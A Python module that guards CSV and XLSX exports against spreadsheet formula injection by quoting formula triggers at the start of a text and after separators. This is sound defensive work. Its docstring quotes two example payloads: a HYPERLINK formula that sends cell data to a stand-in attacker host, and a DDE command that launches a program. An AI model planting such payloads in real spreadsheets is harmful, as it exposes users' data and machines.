"""Formula neutralisation for files that people open in Excel or LibreOffice (CSV, XLSX).

Why: a KvK trade name such as `=HYPERLINK("http://evil.example/?x="&A1,"klik")` becomes a live
formula when a spreadsheet opens the export. Following OWASP's CSV-injection guidance, a text
that could start a formula is written as text by putting a single quote in front of the
trigger.

Where a cell starts is not ours to decide: Dutch Excel splits a `.csv` on `;`, English Excel on
`,`, a paste on tabs, and every one of them on line breaks, so `Bakkerij;=cmd|' /C calc'!A0;x`
written as one field becomes the cell `=cmd|' /C calc'!A0` in nl-NL Excel. The rule therefore
looks at the start of the text *and* at every position right after a separator a spreadsheet
may split on (`;`, `,`, tab, CR, LF): a trigger there (`=`, `+`, `-`, `@`, or a look-alike a
spreadsheet may fold to one, such as full-width `＝`), after white space, invisible format
characters (zero-width, bidi controls) and double quotes, gets a `'` in front of it. A piece
that is a plain number under every split (`-3`, `-3,5`) or a lone `-` stays as it is, and
numbers in numeric columns are never touched.

Every CSV and XLSX writer calls `neutralise_frame` (or `neutralise_value` per cell), so a
rewritten writer keeps the rule by calling the same function.
"""

from __future__ import annotations

import re
import unicodedata
from functools import lru_cache
from typing import Any

import pandas as pd

QUOTE = "'"
# Characters a spreadsheet reads as the start of a formula: the four ASCII ones and every
# character whose compatibility form (NFKC) is one of them (full-width, small and super/
# subscript forms; tests/test_export_safety.py checks the list against unicodedata), plus the
# minus sign. Tab, CR and LF start a formula only at the very start of a text (OWASP).
FORMULA_CHARACTERS: frozenset[str] = frozenset(
    "=+-@"
    "\u207a\u207c"  # superscript plus, equals
    "\u208a\u208c"  # subscript plus, equals
    "\ufb29"  # Hebrew alternative plus sign
    "\ufe62\ufe63\ufe66\ufe6b"  # small plus, hyphen-minus, equals, commercial at
    "\uff0b\uff0d\uff1d\uff20"  # full-width plus, hyphen-minus, equals, commercial at
    "\u2212"  # minus sign
)
LEADING_TRIGGERS: frozenset[str] = frozenset("\t\r\n")
FORMULA_TRIGGERS: frozenset[str] = FORMULA_CHARACTERS | LEADING_TRIGGERS
# Where a spreadsheet may start a new cell inside one text: its list separators (nl-NL `;`,
# en `,`, tab) and line breaks.
SEPARATORS = ";,\t\r\n"
_SEPARATOR_RE = re.compile(r"[;,\t\r\n]")
_CELL_ENDS = {";": ";\r\n", ",": ",\r\n", "\t": "\t\r\n"}
# A piece that a spreadsheet reads as a number, with a decimal point or comma, an exponent
# or a percent sign: not a formula however it is split.
_PLAIN_NUMBER = re.compile(r"[-+\u2212]?\d+(?:[.,]\d+)*(?:[eE][-+]?\d+)?%?")
HARMLESS = frozenset({"-"})  # a lone dash is the usual "nothing here" placeholder, never a formula


def _skippable(ch: str) -> bool:
    """White space, invisible format/control characters and double quotes, which a
    spreadsheet may skip (or strip) before it looks for a formula; never a separator."""
    if ch in SEPARATORS:
        return False
    if ch == '"' or ch.isspace():
        return True
    return unicodedata.category(ch) in ("Cf", "Cc")


def _first_visible(text: str, start: int = 0) -> int:
    """Index of the first character at or after `start` that is not skippable (len when none)."""
    i = start
    while i < len(text) and _skippable(text[i]):
        i += 1
    return i


def _harmless_cell(text: str, at: int) -> bool:
    """True when the cell starting at `at` is a plain number or a lone dash under every way of
    splitting (each separator ends the cell, and so does a line break)."""
    for ends in _CELL_ENDS.values():
        stop = at
        while stop < len(text) and text[stop] not in ends:
            stop += 1
        cell = text[at:stop].strip()
        if cell not in HARMLESS and not _PLAIN_NUMBER.fullmatch(cell):
            return False
    return True


def _formula_starts(text: str) -> list[int]:
    """Positions where the text would put a formula trigger at the start of a cell: 0 for the
    text's own start (the quote goes in front of everything, as before), else the index of
    the trigger after a separator (a plain number or a lone dash there is left alone)."""
    found: list[int] = []
    first = _first_visible(text)
    if text[0] in LEADING_TRIGGERS or (
        first < len(text) and text[first] in FORMULA_CHARACTERS and text not in HARMLESS
    ):
        found.append(0)  # the text's own start: any trigger, numbers in text columns included
    if not FORMULA_CHARACTERS.intersection(text):
        return found
    for match in _SEPARATOR_RE.finditer(text):
        at = _first_visible(text, match.end())
        if at < len(text) and text[at] in FORMULA_CHARACTERS and not _harmless_cell(text, at):
            found.append(at)
    return found


@lru_cache(maxsize=65_536)
def _neutralised(text: str) -> str | None:
    """The safe spelling of `text`, or None when it is safe as it is (cached: an XLSX asks
    per cell and the same texts come back on every row)."""
    if not text:
        return None
    starts = _formula_starts(text)
    if not starts:
        return None
    out = []
    last = 0
    for at in sorted(set(starts)):
        out.append(text[last:at])
        out.append(QUOTE)
        last = at
    out.append(text[last:])
    return "".join(out)


def needs_neutralising(text: str) -> bool:
    """True when a spreadsheet could read this text, or a piece of it split off at a
    separator, as a formula (or DDE payload)."""
    return _neutralised(text) is not None


def neutralise_text(text: str) -> str:
    """`=1+1` -> `'=1+1`, `Bakkerij;=cmd` -> `Bakkerij;'=cmd`; harmless text is returned
    unchanged."""
    safe = _neutralised(text)
    return text if safe is None else safe


def neutralise_value(value: Any) -> tuple[Any, bool]:
    """(cell value, was it neutralised). Only str values change; numbers, booleans and missing
    values pass through as they are."""
    if isinstance(value, str):
        safe = _neutralised(value)
        if safe is not None:
            return safe, True
    return value, False


def neutralise_frame(frame: pd.DataFrame) -> tuple[pd.DataFrame, int]:
    """(copy of frame with every dangerous text cell neutralised, number of cells changed).
    Text columns only (object/string dtype); the check runs once per distinct value."""
    out = frame.copy()
    changed = 0
    for column in out.columns:
        series = out[column]
        if series.dtype.kind != "O" and not isinstance(series.dtype, pd.StringDtype):
            continue
        uniques = [u for u in pd.unique(series.dropna()) if isinstance(u, str)]
        risky = {u: safe for u in uniques if (safe := _neutralised(u)) is not None}
        if not risky:
            continue
        hits = series.isin(list(risky))
        changed += int(hits.sum())
        out[column] = series.map(lambda v, r=risky: r.get(v, v) if isinstance(v, str) else v)
    return out, changed


def neutralise_header(columns: list[str]) -> list[str]:
    """Column names are text cells too."""
    return [neutralise_text(str(c)) for c in columns]
